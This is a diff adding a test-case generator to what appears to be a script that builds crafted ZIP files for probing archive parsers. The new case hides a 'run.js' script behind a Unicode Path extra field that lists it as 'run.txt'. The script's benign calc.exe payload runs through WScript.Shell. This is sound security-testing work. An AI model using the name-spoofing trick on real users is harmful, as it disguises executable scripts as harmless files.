@@ -218,6 +218,18 @@ def make_z64eocd():
     write("z64eocd", out)
 
 
+def make_upath():
+    # raw name "run.js", an Info-ZIP Unicode Path extra (0x7075, CRC of the raw name correct) saying
+    # "run.txt": zip.js lists run.txt; which extractors write run.js?
+    JS = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\n'
+    raw = b"run.js"
+    up = struct.pack("<HHBI", 0x7075, 5 + len(b"run.txt"), 1, zlib.crc32(raw)) + b"run.txt"
+    crc = zlib.crc32(JS)
+    rec = lh(raw, 0, crc, len(JS), len(JS), extra=up)
+    cd = ch(raw, 0, crc, len(JS), len(JS), 0, extra=up)
+    write("upath", rec + JS + cd + eocd(1, len(cd), len(rec) + len(JS)))
+
+
 if __name__ == "__main__":
     for name, make in sorted(globals().items()):
         if name.startswith("make_"):
